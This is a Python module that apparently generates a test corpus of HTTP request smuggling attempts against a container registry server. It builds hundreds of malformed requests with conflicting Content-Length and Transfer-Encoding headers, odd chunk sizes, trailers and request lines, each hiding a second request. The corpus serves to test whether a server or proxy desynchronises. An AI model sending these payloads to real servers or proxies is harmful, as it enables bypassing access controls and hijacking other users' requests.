"""Requests that hide another one where a careless reader would find it (D1 of the plan).

Each is one request by any strict reading, or none at all; the hidden one stands in a body, in a
chunk, in a trailer, or behind lengths that contradict each other. Whoever sees it has lost count.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

HIDDEN = b"GET /v2/smuggled/x/tags/list HTTP/1.1\r\nHost: registry.test\r\n\r\n"
SIGN = "smuggled"
"""Stands in the log of whoever has seen the hidden request."""

_N = len(HIDDEN)
_X = f"{_N:x}"
_POST = b"POST /v2/docker-local/team/app/blobs/uploads/ HTTP/1.1"
_KNOWN = b"Host: @host@\r\n@authorization@"


@dataclass(frozen=True)
class Attack:
    """Bytes to send on a new connection; ``@host@`` and the like are for the client to fill in."""

    name: str
    data: bytes
    lenient: bool = False
    """Whether a proxy may take the hidden part for a second request of the same client."""


def _request(lines: list[bytes], body: bytes, line: bytes = _POST) -> bytes:
    return b"\r\n".join([line, _KNOWN, *lines, b"", b""]) + body


def _shown(*parts: bytes) -> str:
    return " ".join(part.decode("latin-1").encode("unicode_escape").decode() for part in parts)


# --- a good length, and a coding that must not be believed ---------------------------------------

CODINGS = [
    b"Transfer-Encoding: chunked", b"Transfer-Encoding:chunked", b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding : chunked", b"Transfer-Encoding\t: chunked", b" Transfer-Encoding: chunked",
    b"\tTransfer-Encoding: chunked", b"Transfer-Encoding\0: chunked",
    b"Transfer-Encoding\x0b: chunked", b"Transfer-Encoding\xa0: chunked",
    b"Transfer_Encoding: chunked", b"Transfer.Encoding: chunked", b"TRANSFER-ENCODING: CHUNKED",
    b"Transfer-Encoding: Chunked", b"Transfer-Encoding: chun\xe2\x84\xaaed",
    b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunkedx", b"Transfer-Encoding: chunk",
    b"Transfer-Encoding: chunked ", b"Transfer-Encoding: chunked\t",
    b"Transfer-Encoding: chunked\0",
    b"Transfer-Encoding: \0chunked", b"Transfer-Encoding: chunked\x0b",
    b"Transfer-Encoding: \x0bchunked", b"Transfer-Encoding: \x0cchunked",
    b"Transfer-Encoding: \xa0chunked", b"Transfer-Encoding: \x85chunked",
    b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: chunked;q=1", b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked,", b"Transfer-Encoding: identity", b"Transfer-Encoding:",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked",
    b"X: y\r\n Transfer-Encoding: chunked", b"X: y\r\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding:\n chunked",
    b"Transfer-Encoding: chunked\r\n ", b"Transfer-\r\n Encoding: chunked",
    b"X\rTransfer-Encoding: chunked", b"X\0Transfer-Encoding: chunked",
    b"TE: chunked", b"Content-Encoding: chunked", b"Trailer: chunked",
    b":Transfer-Encoding: chunked",
]  # fmt: skip


def _by_coding() -> Iterator[Attack]:
    body = b"0\r\n\r\n" + HIDDEN
    length = b"Content-Length: %d" % len(body)
    for coding in CODINGS:
        yield Attack(f"length, then {_shown(coding)}", _request([length, coding], body))
        yield Attack(f"{_shown(coding)}, then length", _request([coding, length], body))


# --- a good coding, and a length that must not be believed; and such a length alone --------------

LENGTHS = [
    b"Content-Length: @", b"Content-Length:@", b"Content-Length:\t@", b"Content-Length: @ ",
    b"Content-Length: 00@", b"CONTENT-LENGTH: @", b"Content-Length: +@", b"Content-Length: -@",
    b"Content-Length: 0x@", b"Content-Length: @.0", b"Content-Length: @e0", b"Content-Length: @_0",
    b"Content-Length: _@", b"Content-Length: @,@", b"Content-Length: @, @", b"Content-Length: @, 0",
    b"Content-Length: 0, @", b"Content-Length: @;x", b"Content-Length: @ 0", b"Content-Length: 0 @",
    b'Content-Length: "@"', b"Content-Length: @\0", b"Content-Length: \0@",
    b"Content-Length: @\x0b",
    b"Content-Length: \x0b@", b"Content-Length: \xa0@", b"Content-Length: \xd9\xa3",
    b"Content-Length: \xb2", b"Content-Length: 18446744073709551616@",
    b"Content-Length: 1000000000000000000000000000000@", b"Content-Length : @",
    b"Content-Length\t: @", b"Content-Length\0: @", b"Content-Length\x0b: @",
    b"Content-Length:\r\n @", b"Content-Length: @\r\n 0", b"X: y\rContent-Length: @",
    b"Content-Length: @\r\nContent-Length: @", b"Content-Length: @\r\nContent-Length: 0",
    b"Content-Length: 0\r\nContent-Length: @", b"Content-Length: @\r\nContent-Length: +@",
]  # fmt: skip
NO_LENGTHS = [b"Content_Length: @", b"X: y\r\n Content-Length: @", b"Content-Lengthx: @"]
"""What is no length at all: without another one, there is no body."""


def _by_length() -> Iterator[Attack]:
    chunk = f"{_X}\r\n".encode()
    body = chunk + HIDDEN + b"\r\n0\r\n\r\n"
    for spelled in [*LENGTHS, *NO_LENGTHS]:
        length = spelled.replace(b"@", b"%d" % len(chunk))
        for lines in (
            [b"Transfer-Encoding: chunked", length],
            [length, b"Transfer-Encoding: chunked"],
        ):
            yield Attack(f"chunks and {_shown(*lines)}", _request(lines, body))
    for spelled in LENGTHS:
        length = spelled.replace(b"@", b"%d" % _N)
        yield Attack(f"alone {_shown(length)}", _request([length], HIDDEN))


# --- chunks --------------------------------------------------------------------------------------

SIZES = [
    "@", "0@", "0000000000000000000000@", "@ ", "@\t", " @", "\t@", "+@", "-@", "0x@",
    "@;x", "@ ;x",
    '@;x="y;z"', "@;x=y\t", "@;x\ny", "@;\nx", "@\n", "@\r", "@\0", "@,", "@ @", "@.0", "@_", "@h",
    "10000000000000000@", "ffffffffffffffff@", "@;" + "x" * 5000, "", ";x", "\u0663",
]  # fmt: skip
BODIES = {
    "no end of a chunk": b"5\r\nAAAAA0\r\n\r\n" + HIDDEN,
    "a chunk that is longer than it says": b"5\r\nAAAAAAA\r\n0\r\n\r\n" + HIDDEN,
    "a chunk that is shorter than it says": b"9\r\nAAAAA\r\n0\r\n\r\n" + HIDDEN,
    "the end in a trailer": b"0\r\n" + HIDDEN,
    "the end behind a trailer": b"0\r\nX: y\r\n" + HIDDEN,
    "half of the last end": b"0\r\n\r" + HIDDEN,
    "an end of CR": b"0\r\r" + HIDDEN,
    "a length in a trailer": b"0\r\nContent-Length: %d\r\n" % _N + HIDDEN,
    "a coding in a trailer": b"0\r\nTransfer-Encoding: chunked\r\n" + HIDDEN,
    "a folded trailer": b"0\r\nX: y\r\n " + HIDDEN,
    "many trailers": b"0\r\n" + b"X: y\r\n" * 1000 + HIDDEN,
}
LENIENT = {
    "ends of LF": b"0\n\n" + HIDDEN,
    "an end of LF": b"0\r\n\n" + HIDDEN,
    "an end of a chunk of LF": b"5\r\nAAAAA\n0\r\n\r\n" + HIDDEN,
    "an extension with LF": b"0;x\n\r\n" + HIDDEN,
}


def _by_chunks() -> Iterator[Attack]:
    lines = [b"Transfer-Encoding: chunked"]
    for size in SIZES:
        body = size.replace("@", _X).encode() + b"\r\n" + HIDDEN + b"\r\n0\r\n\r\n"
        yield Attack(f"size {size[:30]!a}", _request(lines, body))
    for name, body in BODIES.items():
        yield Attack(name, _request(lines, body))
    for name, body in LENIENT.items():
        yield Attack(name, _request(lines, body), lenient=True)


# --- first lines, and what stands beside the body ------------------------------------------------

FIRST = [
    b"POST /v2/ HTTP/1.0", b"POST /v2/ HTTP/0.9", b"POST /v2/ HTTP/1.2", b"POST /v2/ HTTP/2.0",
    b"POST /v2/ http/1.1", b"POST  /v2/  HTTP/1.1", b"POST /v2/ HTTP/1.1 ", b"POST\t/v2/\tHTTP/1.1",
    b"POST /v2/ x HTTP/1.1", b"POST /v2/\0 HTTP/1.1", b"POST /v2/\r HTTP/1.1",
    b"\r\nPOST /v2/ HTTP/1.1",
    b"post /v2/ HTTP/1.1", b"POST /v2/", b"POST http://other.example/v2/ HTTP/1.1",
    b"POST /v2/%0d%0a%0d%0aGET%20/v2/smuggle HTTP/1.1", b"POST /v2/?x=%0d%0a HTTP/1.1",
    b"POST /v2/#x HTTP/1.1", b"POST * HTTP/1.1", b"CONNECT x:1 HTTP/1.1", b"TRACE /v2/ HTTP/1.1",
    b"PRI * HTTP/2.0", b"GET /v2/ HTTP/1.1", b"HEAD /v2/ HTTP/1.1", b"DELETE /v2/ HTTP/1.1",
    b"OPTIONS /v2/ HTTP/1.1", b"FOO /v2/ HTTP/1.1", b"GET /healthz HTTP/1.1",
    b"GET /_content/x HTTP/1.1", b"GET /nothing HTTP/1.1", b"PUT /nothing HTTP/1.1",
    b"GET @small@ HTTP/1.1", b"GET @large@ HTTP/1.1", b"HEAD @large@ HTTP/1.1",
    b"PUT /v2/docker-local/team/app/blobs/uploads/none HTTP/1.1",
    b"PUT /v2/docker-local/team/app/manifests/1 HTTP/1.1",
]  # fmt: skip
BESIDE = [
    b"Connection: Content-Length", b"Connection: close, Content-Length", b"Connection: Host",
    b"Connection: keep-alive, Transfer-Encoding", b"Keep-Alive: timeout=100, max=1",
    b"Connection: Upgrade\r\nUpgrade: websocket", b"Proxy-Connection: keep-alive",
    b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
    b"Expect: 100-continue", b"Expect: x", b"Expect: 100-continue\r\nExpect: x",
    b"Host: other.example", b"Range: bytes=0-100000", b"X-HTTP-Method-Override: GET",
    b"Content-Range: bytes 0-1/2", b"Authorization: Basic eDp5", b"If-None-Match: *",
]  # fmt: skip


def _by_place() -> Iterator[Attack]:
    length, chunked = b"Content-Length: %d" % _N, b"Transfer-Encoding: chunked"
    chunk = f"{_X}\r\n".encode() + HIDDEN + b"\r\n0\r\n\r\n"
    for line in FIRST:
        yield Attack(f"{_shown(line)}, length", _request([length], HIDDEN, line))
        yield Attack(f"{_shown(line)}, chunks", _request([chunked], chunk, line))
        both = b"0\r\n\r\n" + HIDDEN
        lines = [b"Content-Length: %d" % len(both), chunked]
        yield Attack(f"{_shown(line)}, both", _request(lines, both, line))
    for header in BESIDE:
        yield Attack(f"{_shown(header)}, length", _request([length, header], HIDDEN))
        yield Attack(f"{_shown(header)}, chunks", _request([header, chunked], chunk))


# --- bodies that the server does not want --------------------------------------------------------


def _by_refusal() -> Iterator[Attack]:
    """Large ones, which are answered before they have come; what is left is no request."""
    body = HIDDEN * (200_000 // _N)
    length = b"Content-Length: %d" % len(body)
    for line in (
        b"POST /v2/docker-local/team/app/blobs/uploads/none HTTP/1.1",
        b"PATCH /v2/docker-local/team/app/blobs/uploads/none HTTP/1.1",
        b"PUT /v2/docker-local/team/app/manifests/1 HTTP/1.1",
        b"PUT /v2/docker-none/team/app/manifests/1 HTTP/1.1",
        b"GET @large@ HTTP/1.1", b"GET /v2/ HTTP/1.1",
        b"DELETE /v2/docker-local/team/app/manifests/none HTTP/1.1",
    ):  # fmt: skip
        whole = _request([length], body, line)
        yield Attack(f"large {_shown(line)}", whole)
        yield Attack(f"half of large {_shown(line)}", whole[: len(whole) // 2])
        anonymous = whole.replace(b"\r\n@authorization@", b"")
        yield Attack(f"large and anonymous {_shown(line)}", anonymous)
        yield Attack(f"half of large and anonymous {_shown(line)}", anonymous[: len(whole) // 2])
        expecting = _request([length, b"Expect: 100-continue"], body, line)
        yield Attack(f"large {_shown(line)}, asking first", expecting)


CORPUS = {
    "codings": [*_by_coding()],
    "lengths": [*_by_length()],
    "chunks": [*_by_chunks()],
    "places": [*_by_place()],
    "refusals": [*_by_refusal()],
}
